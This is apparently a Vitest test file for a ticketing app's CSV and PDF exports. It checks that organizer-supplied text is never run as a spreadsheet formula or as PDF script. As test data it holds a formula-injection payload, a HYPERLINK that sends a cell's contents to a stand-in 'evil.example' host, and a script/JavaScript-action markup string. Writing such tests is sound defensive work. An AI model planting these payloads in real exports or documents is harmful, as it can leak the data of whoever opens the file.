import { FILE_KINDS } from '@foyer/contract'
import { serverForTests } from '@foyer/testkit'
import { buy } from '@foyer/testkit/purchase'
import { fillTexts } from '@foyer/testkit/stored-texts'
import Papa from 'papaparse'
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
import { describe, expect, test } from 'vitest'
import { receiptPdf } from '../src/features/tickets/pdf/receipt-pdf.ts'
import { ticketsPdf } from '../src/features/tickets/pdf/tickets-pdf.ts'
import { waiverPdf } from '../src/features/tickets/pdf/waiver-pdf.ts'
import { COLUMNS } from '../src/privacy/columns.ts'
import { anOrder, aTenant } from './support/an-order.ts'
import { member } from './support/staff.ts'

/** What is stored as text stays text in the files that people open: no formula, no link, no script. */

describe('a CSV file', () => {
  const server = serverForTests({ jobs: false, isOneAddressMany: true })
  const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Total")'

  test('has no cell that a spreadsheet runs, whichever text of the organizer is a formula', async () => {
    const event = await server.build.event({ types: [{ name: 'Adult', dynamicMinor: 1000 }] })
    await server.build.coupon({})
    await buy(server.browser(), event)
    await server.sql(
      `insert into access_codes (tenant_id, id, event_id, code, label, opens_early)
       values ($1, gen_random_uuid(), $2, 'FANS', 'x', true)`,
      [event.tenantId, event.eventId],
    )
    const filled = await fillTexts((text, values) => server.sql(text, values), COLUMNS, {
      tenantId: event.tenantId,
      text: FORMULA,
      short: '=1+1',
    })
    expect(filled).toEqual(
      expect.arrayContaining(['events.name', 'ticket_types.name', 'venues.name']),
    )
    await server.sql(
      `update orders set contact = contact || jsonb_build_object('firstName', $1::text)`,
      [FORMULA],
    )
    const { browser } = await member(server, 'owner')
    const files = [(await browser.send('POST', '/api/admin/exports/orders', {})).body]
    for (const kind of FILE_KINDS) {
      const path = `/api/admin/exports?kind=${kind}`
      const of = kind === 'events' || kind === 'coupon_codes' ? '' : `&eventId=${event.eventId}`
      files.push((await browser.send('GET', path + of)).body)
    }
    for (const { name, text, rows } of files) {
      expect(rows, name).toBeGreaterThan(0)
      const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, '')).data.flat()
      expect(
        cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell)),
        name,
      ).toEqual([])
      expect(text, name).toContain("'=")
    }
  })
})

describe('a PDF', () => {
  const MARKUP = '<script>run()</script> javascript:run() (/JS (run))>> endobj'

  /** The same with markup behind each text, so that a new one is covered by itself. */
  function marked(value: unknown, name = ''): unknown {
    if (typeof value === 'string') return isTyped(value, name) ? `${value} ${MARKUP}` : value
    if (Array.isArray(value)) return value.map((entry) => marked(entry, name))
    if (typeof value !== 'object' || value === null || value instanceof Date) return value
    return Object.fromEntries(
      Object.entries(value).map(([key, entry]) => [key, marked(entry, key)]),
    )
  }
  const isTyped = (value: string, name: string) =>
    !/^(id|\w+Id|status|state|kind|currency|locale|timeZone|qrCode|validationCode|domain|slug)$/.test(
      name,
    ) && !/^(\d{4}-\d\d-\d\d|https?:|\/)/.test(value)
  // biome-ignore lint/suspicious/noExplicitAny: the copy has the shape of what it was made of
  const markedAs = <T>(view: T): T => marked(view) as any

  const tenant = markedAs(aTenant())
  const order = markedAs(anOrder({ tickets: 2 }))
  test.each([
    ['of the tickets', () => ticketsPdf(tenant, order, 'a4')],
    ['of the receipt', () => receiptPdf(tenant, order)],
    [
      'of a waiver',
      () =>
        waiverPdf(
          markedAs({
            tenant,
            orderNumber: '0E2F0A00',
            eventName: 'Harbor Lights',
            timeZone: 'America/Los_Angeles',
            ticketNumber: 1,
            text: 'Please sign.',
            signed: {
              participant_name: 'Ada',
              guardian_name: 'Grace',
              email: 'ada@example.com',
              signature_kind: 'typed' as const,
              signature: 'Ada',
              signed_at: new Date('2026-07-01T10:00:00Z'),
              text_version: 1,
              sha256: 'abc',
            },
            isByLinkAlone: false,
          }),
        ),
    ],
  ])('%s shows markup as text, and does nothing when it is opened', async (_, make) => {
    const bytes = await make()
    const pdf = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise
    expect(await pdf.getJSActions()).toBeNull()
    expect(await pdf.getOpenAction()).toBeNull()
    let letters = ''
    for (let number = 1; number <= pdf.numPages; number += 1) {
      const page = await pdf.getPage(number)
      const links = (await page.getAnnotations()).map(({ url, unsafeUrl }) => url ?? unsafeUrl)
      expect(links.filter((link) => !/^(https:|mailto:)/.test(link ?? ''))).toEqual([])
      const { items } = await page.getTextContent()
      letters += items.map((item) => ('str' in item ? item.str : '')).join('')
    }
    expect(letters.replace(/\s/g, '')).toContain('<script>run()</script>')
  })
})
